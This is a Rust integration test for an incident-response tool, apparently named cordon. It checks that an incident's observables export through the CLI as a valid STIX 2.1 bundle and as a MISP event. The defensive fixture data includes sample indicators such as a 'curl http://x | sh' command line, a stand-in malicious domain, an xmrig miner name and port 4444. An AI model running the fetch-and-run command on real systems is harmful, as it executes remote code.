//! An incident's observables exported as a STIX 2.1 bundle (which `stix2-validator`, from PyPI,
//! accepts) and as a MISP event, through the real CLI.

use std::process::Command;

use cordon_tests::{fails, ok, Deployment};
use serde_json::{json, Value};

/// Every type, with verdicts that make indicators and values that need quoting in patterns.
const VALUES: &[(&str, &str, &str)] = &[
    (
        "sha256",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "malicious",
    ),
    (
        "sha1",
        "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3",
        "suspicious",
    ),
    ("md5", "098f6bcd4621d373cade4e832627b4f6", "unknown"),
    ("ipv4", "203.0.113.7", "malicious"),
    ("ipv6", "2001:db8::7", "unknown"),
    ("cidr", "198.51.100.0/24", "suspicious"),
    ("domain", "evil.example.org", "malicious"),
    ("url", "https://evil.example.org/drop?x='1'", "malicious"),
    ("file_path", "/tmp/.x/it's here.sh", "malicious"),
    ("file_name", "payload.bin", "unknown"),
    ("process_name", "xmrig", "malicious"),
    (
        "command_line",
        r"sh -c 'curl http://x | sh' \\",
        "malicious",
    ),
    ("user", "www-data", "unknown"),
    ("hostname", "web-01", "benign"),
    ("email", "phish@evil.example.org", "malicious"),
    ("port", "4444", "suspicious"),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn observables_export_as_a_valid_stix_bundle_and_a_misp_event() {
    let deployment = Deployment::start().await;
    let api = deployment.api();
    let created: Value = api
        .post_json(
            "/api/v1/incidents",
            json!({ "title": "exported", "kind": "malware" }),
        )
        .await
        .unwrap();
    let id = created["id"].as_str().unwrap().to_owned();
    for (kind, value, verdict) in VALUES {
        let _: Value = api
            .post_json(
                &format!("/api/v1/incidents/{id}/observables"),
                json!({ "type": kind, "value": value, "verdict": verdict }),
            )
            .await
            .unwrap_or_else(|e| panic!("{kind} {value}: {e:?}"));
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("incident.stix.json");
    let file_arg = file.to_str().unwrap();
    let said = ok(&deployment
        .run_cli(&[
            "incidents",
            "export",
            &id[..8],
            "--format",
            "stix",
            "--out",
            file_arg,
        ])
        .await);
    assert!(said.contains(file_arg), "{said}");
    // Never overwritten.
    fails(
        &deployment
            .run_cli(&["incidents", "export", &id, "--out", file_arg])
            .await,
        2,
    );
    let bundle: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(bundle["type"], "bundle");
    let objects = bundle["objects"].as_array().unwrap();
    let count = |kind: &str| objects.iter().filter(|o| o["type"] == kind).count();
    assert_eq!(count("observed-data"), VALUES.len());
    let flagged = VALUES
        .iter()
        .filter(|v| v.2 == "malicious" || v.2 == "suspicious")
        .count();
    assert_eq!(count("indicator"), flagged);
    assert_eq!(count("sighting"), flagged);
    assert_eq!(count("grouping"), 1);
    assert!(objects.iter().any(|o| o["type"] == "indicator"
        && o["pattern"] == "[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']"));

    match Command::new("stix2_validator").arg(&file).output() {
        Ok(out) => assert!(
            out.status.success(),
            "stix2-validator refused the bundle:\n{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
        Err(e) if std::env::var_os("CORDON_REQUIRE_TOOLS").is_some() => {
            panic!("stix2_validator is not installed (pip install stix2-validator): {e}")
        }
        Err(_) => {
            use std::io::Write;
            let _ = writeln!(
                std::io::stderr(),
                "SKIPPED: stix2_validator not installed (pip install stix2-validator)"
            );
        }
    }

    // MISP: one attribute each, to_ids for the malicious ones.
    let event: Value = serde_json::from_str(&ok(&deployment
        .run_cli(&["incidents", "export", &id, "--format", "misp"])
        .await))
    .expect("a MISP event as JSON");
    let attributes = event["Event"]["Attribute"].as_array().unwrap();
    assert_eq!(attributes.len(), VALUES.len());
    let to_ids = attributes.iter().filter(|a| a["to_ids"] == true).count();
    assert_eq!(to_ids, VALUES.iter().filter(|v| v.2 == "malicious").count());
    assert!(attributes
        .iter()
        .any(|a| a["type"] == "sha256" && a["category"] == "Payload delivery"));
    assert_eq!(event["Event"]["info"], "exported");
}
